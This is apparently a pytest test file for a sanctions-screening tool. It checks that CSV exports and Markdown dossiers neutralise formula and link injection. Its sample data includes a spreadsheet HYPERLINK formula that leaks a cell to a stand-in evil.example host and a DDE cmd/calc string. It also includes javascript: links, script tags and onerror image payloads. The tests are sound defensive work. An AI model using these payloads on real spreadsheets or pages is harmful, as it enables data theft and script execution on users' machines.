"""Output injection: CSV cells a spreadsheet would run, and Markdown that would become links or
HTML, are neutralised in every writer (batch screening, exports, releases, dossiers)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sanctionwatch.cli import app
from sanctionwatch.csvsafe import safe_cell, unescape_cell
from sanctionwatch.release import entities_csv
from sanctionwatch.report.dossier import render_markdown
from sanctionwatch.report.mdsafe import md_text

runner = CliRunner()
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Hun Sen")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_owasp_rule(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert unescape_cell(safe_cell(value)) == value


def test_ordinary_cells_are_untouched() -> None:
    for value in ("Hun Sen", "ហ៊ុន សែន", "'quoted'", "a=b", "", "0.9500"):
        assert safe_cell(value) == value and unescape_cell(value) == value
    assert safe_cell(-1.5) == -1.5 and safe_cell(3) == 3  # numbers stay numbers


def test_release_and_export_csv_cells_are_safe() -> None:
    entity = {"id": "sw-1", "schema": "Person", "caption": FORMULAS[0],
              "properties": {"name": [FORMULAS[0]], "alias": ["@alias"], "position": ["-minister"]},
              "statements": []}
    rows = list(csv.reader(io.StringIO(entities_csv([entity]))))
    cells = rows[1]
    assert cells[2] == "'" + FORMULAS[0] and cells[3] == "'" + FORMULAS[0]
    assert cells[4] == "'@alias" and cells[5] == "'-minister"
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for c in row)


def test_batch_screening_csv_is_safe_and_still_resumes(tmp_path: Path) -> None:
    db = str(tmp_path / "s.db")
    listed = tmp_path / "list.ftm.json"
    listed.write_text(json.dumps({"id": "x-1", "schema": "Person",
                                  "properties": {"name": [FORMULAS[0]]}}) + "\n", encoding="utf-8")
    assert runner.invoke(app, ["load", str(listed), "--dataset", "hostile", "--db", db]).exit_code == 0
    names = tmp_path / "names.csv"
    with names.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name"])
        writer.writerow(["=1+1", FORMULAS[0]])
        writer.writerow(["@2", "-Hun Sen"])
    out = tmp_path / "hits.csv"
    args = ["screen", "--batch", str(names), "--out", str(out), "--dataset", "hostile",
            "--threshold", "0.5", "--db", db]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert len(rows) >= 3
    for row in rows:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row), row
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert any(r["caption"] == "'" + FORMULAS[0] for r in body)  # the list entry reached the file
    assert {r["row"] for r in body} == {"'=1+1", "'@2"}
    again = runner.invoke(app, args)
    assert "(2 already done)" in again.output  # resume reads its own escaped keys back


HOSTILE = ["[click](javascript:alert(1))", "![pixel](http://evil.example/t.png)",
           "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<javascript:alert(1)>",
           "[x]: javascript:alert(1)", "line\n# heading\n<div>", "JaVaScRiPt :alert(1)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_cannot_form_links_images_or_html(text: str) -> None:
    out = md_text(text)
    assert "\n" not in out
    assert not re.search(r"(?<!\\)[\[\]()<]", out), out  # every opener escaped
    assert not re.search(r"(?i)javascript\s*:", out), out
    # what a reader sees is still the text: removing the escapes gives it back
    assert re.sub(r"\\(.)", r"\1", out).replace("&amp;", "&") == text.replace("\n", " ")


def test_markdown_dossier_neutralises_document_text() -> None:
    source = {"quote": "Hun Sen [click](javascript:alert(1)) <img src=x onerror=alert(1)>",
              "path": "[a](javascript:x).txt", "document": "doc-1", "language": "en",
              "url": "javascript:alert(1)", "title": "[t](javascript:y) <img src=x>"}
    d = {"caption": "Hun Sen](javascript:alert(1)", "schema": "Person", "id": "sw-1",
         "languages": ["en"], "names": [{"name": "![x](http://e/p.png)", "count": 1, "sources": [source]}],
         "positions": [{"position": "<b>PM</b>"}], "merges": [], "roles": {"perpetrator": [
             {"kind": "arrest", "date": "2018", "sources": [source]}]},
         "conflicts": [], "timeline": [{"date": "2018", "type": "event", "kind": "arrest`]",
                                        "actors": [{"name": "[A](javascript:b)"}], "subjects": [],
                                        "role": ["perpetrator"], "sources": [source]}]}
    md = render_markdown(d)
    assert not re.search(r"(?i)javascript\s*:", md)
    assert not re.search(r"(?<!\\)\]\(", md)  # no link or image syntax anywhere
    assert not re.search(r"(?<!\\)<(img|b|script)", md)
    assert "Hun Sen" in md
